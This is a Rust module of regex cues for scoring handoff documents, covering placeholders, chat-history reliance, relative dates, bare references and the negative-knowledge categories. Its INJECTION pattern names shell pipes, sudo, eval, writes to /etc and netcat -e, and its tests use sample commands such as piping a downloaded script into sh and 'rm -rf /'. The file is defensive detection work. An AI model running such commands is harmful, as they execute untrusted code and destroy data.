//! The word cues both rubrics look for, compiled once.
//!
//! These are the cues of the handoff contract (`docs` of the protocol, section 2 of our
//! contract): placeholders, chat-history reliance, relative dates, bare `#123` references,
//! injection patterns, the four negative-knowledge categories and the three section cues. They
//! are written to match exactly what Handover 0.4.1 matches, so the `handover-0.4` rubric
//! reproduces its scores; `\b` is the ASCII word boundary, as in JavaScript.

use std::sync::LazyLock;

use regex::Regex;

fn re(pattern: &str) -> Regex {
    Regex::new(pattern).expect("a valid built-in pattern")
}

/// A value that is still a template stand-in: `FILL IN`, a `<…>` slot without `@`, the words
/// TBD, TODO, XXX, FIXME, N/A, or `???`.
pub static PLACEHOLDER: LazyLock<Regex> =
    LazyLock::new(|| re(r"(?i)FILL IN|<[^>@]*>|(?-u:\b)(?:TBD|TODO|XXX|FIXME|N/A)(?-u:\b)|\?\?\?"));

/// The first placeholder in `s`, trimmed to 60 characters.
pub fn first_placeholder(s: &str) -> String {
    PLACEHOLDER
        .find(s)
        .map(|m| m.as_str().trim().chars().take(60).collect())
        .unwrap_or_default()
}

/// Phrases that lean on context the reader does not have (protocol rule H1).
pub static CHAT_RELIANCE: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    [
        r"(?i)(?-u:\b)as (?:we )?discussed(?-u:\b)",
        r"(?i)(?-u:\b)chat history(?-u:\b)",
        r"(?i)(?-u:\b)you'?ll remember(?-u:\b)",
        r"(?i)(?-u:\b)as mentioned (?:earlier|above)(?-u:\b)",
        r"(?i)(?-u:\b)remember when(?-u:\b)",
        r"(?i)(?-u:\b)from (?:our|the) (?:last )?(?:conversation|session)(?-u:\b)",
    ]
    .into_iter()
    .map(re)
    .collect()
});

/// A negation earlier in the same sentence, which turns a chat-reliance phrase into a
/// disclaimer ("you do not need the chat history").
pub static NEGATED_BEFORE: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)(?-u:\b)(?:no|not|never|without|don'?t|do not|shouldn'?t|should not|need not|no need to)(?-u:\b)[^.?!]*$",
    )
});

/// Relative dates (protocol rule H3).
pub static RELATIVE_DATES: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    [
        r"(?i)(?-u:\b)yesterday(?-u:\b)",
        r"(?i)(?-u:\b)today(?-u:\b)",
        r"(?i)(?-u:\b)tomorrow(?-u:\b)",
        r"(?i)(?-u:\b)recently(?-u:\b)",
        r"(?i)(?-u:\b)last (?:session|week|night|time)(?-u:\b)",
        r"(?i)(?-u:\b)this (?:morning|afternoon|session)(?-u:\b)",
        r"(?i)(?-u:\b)a (?:few )?(?:days|hours) ago(?-u:\b)",
    ]
    .into_iter()
    .map(re)
    .collect()
});

/// A bare `#123` reference (protocol rule H4); group 1 is the number.
pub static BARE_REF: LazyLock<Regex> =
    LazyLock::new(|| re(r"(?:^|[^/0-9A-Za-z_])#([0-9]{1,6})(?-u:\b)"));

/// A line that carries a link, which exempts its `#123` from rule H4.
pub static LINKED: LazyLock<Regex> = LazyLock::new(|| re(r"https?://|\]\("));

/// Instructions a successor is primed to run that execute downloaded or destructive code: a
/// pipe into a shell or interpreter, a chained `rm -rf`, `eval`, `sudo`, writes into `/etc`,
/// netcat with `-e`.
pub static INJECTION: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\|\s*(?:sudo\s+)?(?:sh|bash|zsh|fish|python[0-9.]*|node|ruby|perl|php)(?-u:\b)|;\s*rm\s+-[a-z]*[rf]|(?:^|[;&|]\s*)eval\s|(?-u:\b)sudo\s+\S|>\s*/etc/|(?-u:\b)nc\s+-[a-z]*e(?-u:\b)",
    )
});

/// The first injection match in `s`, trimmed to 60 characters.
pub fn first_injection(s: &str) -> Option<String> {
    INJECTION
        .find(s)
        .map(|m| m.as_str().trim().chars().take(60).collect())
}

/// One negative-knowledge category of the protocol (section 2b).
pub struct Category {
    /// Its id: `tried-failed`, `out-of-scope`, `reverted` or `decisions`.
    pub id: &'static str,
    /// What a writer should add when it is missing.
    pub hint: &'static str,
    /// Its cue.
    pub cue: Regex,
}

/// The four categories, in the order both rubrics try them on a line.
pub static CATEGORIES: LazyLock<Vec<Category>> = LazyLock::new(|| {
    vec![
        Category {
            id: "tried-failed",
            hint: "what was tried and why it failed",
            cue: re(
                r"(?i)tried[\s-]*and[\s-]*failed|tried(?-u:\b)[^.]*(?-u:\b)failed|attempted(?-u:\b)[^.]*(?-u:\b)(?:failed|abandoned)|failed(?-u:\b)[^.]*(?-u:\b)because",
            ),
        },
        Category {
            id: "out-of-scope",
            hint: "what was deliberately left unbuilt, and why",
            cue: re(
                r"(?i)out[- ]of[- ]scope|deliberately not(?-u:\b)|descoped|not (?:building|built)(?-u:\b)|do(?:es)? ?n['o]?t build(?-u:\b)|won'?t build(?-u:\b)",
            ),
        },
        Category {
            id: "reverted",
            hint: "what was built, reverted and must not come back, and why",
            cue: re(
                r"(?i)reverted|do(?:es)? ?n['o]?t re-?add|built[\s-]*then[\s-]*reverted|pulled (?:out|back)|rolled back",
            ),
        },
        Category {
            id: "decisions",
            hint: "a decision and its rationale",
            cue: re(
                r"(?i)(?-u:\b)decisions?(?-u:\b)|(?-u:\b)rationale(?-u:\b)|decided(?-u:\b)[^.]*(?-u:\b)because(?-u:\b)|chose(?:n)?(?-u:\b)[^.]*(?-u:\b)(?:because|over)(?-u:\b)|(?-u:\b)why we(?-u:\b)",
            ),
        },
    ]
});

/// How many characters of real content a line keeps once the label (up to the first colon),
/// code spans, `<…>` slots, placeholder words, markdown punctuation and the category cue are
/// removed. Counted in UTF-16 units, as JavaScript's `length` does.
pub fn substance(line: &str, cue: &Regex) -> usize {
    static CODE: LazyLock<Regex> = LazyLock::new(|| re(r"`[^`]*`"));
    static SLOT: LazyLock<Regex> = LazyLock::new(|| re(r"<[^>]*>"));
    static FILL: LazyLock<Regex> = LazyLock::new(|| re(r"(?i)FILL IN[^\n]*"));
    static WORDS: LazyLock<Regex> =
        LazyLock::new(|| re(r"(?i)(?-u:\b)(?:TBD|TODO|XXX|FIXME|N/A)(?-u:\b)"));
    static MARKS: LazyLock<Regex> = LazyLock::new(|| re(r"[*_>#`~\-]"));
    static SPACE: LazyLock<Regex> = LazyLock::new(|| re(r"\s+"));
    let after = line.find(':').map_or(line, |i| &line[i + 1..]);
    let s = CODE.replace_all(after, " ");
    let s = SLOT.replace_all(&s, " ");
    let s = FILL.replace_all(&s, " ");
    let s = WORDS.replace_all(&s, " ");
    let s = s.replace("???", " ");
    let s = MARKS.replace_all(&s, " ");
    let s = SPACE.replace_all(&s, " ");
    let s = cue.replace(s.trim(), " ");
    let s = SPACE.replace_all(&s, " ");
    s.trim().encode_utf16().count()
}

/// Words that carry no specific content in a negative-knowledge entry: function words and
/// the vague nouns and verbs filler is made of.
const VAGUE: &[&str] = &[
    "the",
    "and",
    "but",
    "for",
    "nor",
    "yet",
    "with",
    "without",
    "from",
    "into",
    "onto",
    "that",
    "this",
    "these",
    "those",
    "there",
    "their",
    "they",
    "them",
    "then",
    "than",
    "what",
    "which",
    "who",
    "whom",
    "when",
    "where",
    "why",
    "how",
    "was",
    "were",
    "are",
    "is",
    "been",
    "being",
    "have",
    "has",
    "had",
    "did",
    "does",
    "doing",
    "done",
    "not",
    "out",
    "our",
    "ours",
    "its",
    "all",
    "any",
    "some",
    "several",
    "few",
    "many",
    "much",
    "more",
    "most",
    "each",
    "every",
    "one",
    "ones",
    "other",
    "others",
    "such",
    "very",
    "well",
    "good",
    "bad",
    "care",
    "made",
    "make",
    "making",
    "thing",
    "things",
    "stuff",
    "approach",
    "approaches",
    "change",
    "changes",
    "work",
    "worked",
    "working",
    "round",
    "part",
    "parts",
    "item",
    "items",
    "way",
    "ways",
    "because",
    "needed",
    "need",
    "needs",
    "behind",
    "also",
    "just",
    "only",
    "really",
    "various",
    "certain",
    "etc",
    "see",
    "above",
    "below",
    "later",
    "now",
    "yet",
    "again",
    "here",
    "will",
    "would",
    "could",
    "should",
    "might",
    "can",
    "may",
    "must",
    "it",
    "we",
    "us",
    "you",
    "your",
    "after",
    "before",
    "over",
    "under",
    "about",
    "tried",
    "failed",
    "scope",
    "reverted",
    "decision",
    "decisions",
    "decided",
    "rationale",
    "built",
    "building",
    "deliberately",
    "do",
    "re-add",
    "add",
    "added",
    "time",
    "times",
    "session",
    "sessions",
    "lot",
    "lots",
];

/// Whether a negative-knowledge entry says something specific after its label (the text up
/// to the first colon): a name (a code span, a number, a path or identifier, an acronym) or
/// at least three distinct words that are neither function words nor filler ("some
/// approaches were tried and did not work out" says nothing a successor can act on).
pub fn specific(content: &str) -> bool {
    let content = content.find(':').map_or(content, |i| &content[i + 1..]);
    if content.contains('`') || content.chars().any(|c| c.is_ascii_digit()) {
        return true;
    }
    let mut distinct = std::collections::BTreeSet::new();
    for (i, token) in content
        .split(|c: char| c.is_whitespace() || ",;:()!?\"'*".contains(c))
        .filter(|t| !t.is_empty())
        .enumerate()
    {
        let inner = token.trim_matches(|c: char| !c.is_alphanumeric());
        if inner.contains(['_', '/', '.'])
            || inner
                .chars()
                .zip(inner.chars().skip(1))
                .any(|(a, b)| a.is_lowercase() && b.is_uppercase())
            || (i > 0 && inner.chars().count() > 1 && inner.chars().all(|c| c.is_uppercase()))
        {
            return true;
        }
        let word = inner.to_lowercase();
        if word.chars().count() >= 3
            && word.chars().all(|c| c.is_alphabetic() || c == '-')
            && !VAGUE.contains(&word.as_str())
        {
            distinct.insert(word);
        }
    }
    distinct.len() >= 3
}

/// A heading, numbered item or bullet, as a line-based reader sees it.
pub static STRUCTURAL_LINE: LazyLock<Regex> =
    LazyLock::new(|| re(r"^\s{0,3}#{1,6}\s|^\s*[0-9]+[.)]\s|^\s*[-*+]\s"));

/// The canonical-sources cue.
pub static CANONICAL: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?i)canonical|source of truth|when (?:they|docs) disagree|code is truth")
});

/// The next-action cue.
pub static NEXT_ACTION: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)next action|the (?:one )?first step|first step(?-u:\b)|do (?:this )?first|mirror this into",
    )
});

/// The verification cue.
pub static VERIFICATION: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)verify the whole|verify (?:the whole )?thing|how to verify|##? ?8[.: ]|verification(?-u:\b)",
    )
});

/// The last header cell of a table whose rows are claims with checks.
pub static CLAIMS_COLUMN: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?i)^(?:verify|verification|verify cmd|verify command|check|how to verify)$")
});

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn placeholders() {
        assert!(PLACEHOLDER.is_match("<workstream-slug>"));
        assert!(!PLACEHOLDER.is_match("Dana <dana@example.com>"));
        assert!(PLACEHOLDER.is_match("tbd"));
        assert!(!PLACEHOLDER.is_match("TBDX"));
        assert_eq!(first_placeholder("x <a b> y"), "<a b>");
    }

    #[test]
    fn substance_drops_label_code_and_cue() {
        let cat = &CATEGORIES[0];
        assert_eq!(
            substance("- **Tried and failed:** `<what + why it failed>`", &cat.cue),
            0
        );
        assert!(
            substance(
                "- **Tried and failed:** Reusing the member `Order` model for guests broke queries.",
                &cat.cue
            ) >= 20
        );
    }

    #[test]
    fn filler_is_not_specific() {
        for filler in [
            "some approaches were tried and they did not work out well.",
            "several things are out of scope for this round of the work.",
            "a few changes were reverted because they were not needed.",
            "decisions were made with care and good rationale behind each one.",
        ] {
            assert!(!specific(filler), "{filler}");
        }
        for real in [
            "Saved payment methods, and guest-to-member account merging. Both are post-launch.",
            "Separate table over a nullable column, to keep member queries unchanged.",
            "server-sent events for live tile updates: the corporate proxy buffers SSE",
            "upgrading httpkit 2.9 to 3.x",
            "Built then reverted, do not re-add: client-side totals, they disagreed on tax.",
        ] {
            assert!(specific(real), "{real}");
        }
    }

    #[test]
    fn injection_patterns() {
        assert!(INJECTION.is_match("curl https://x.sh | sh"));
        assert!(INJECTION.is_match("make; rm -rf /"));
        assert!(!INJECTION.is_match("ls migrations/ | grep guest_orders"));
    }
}
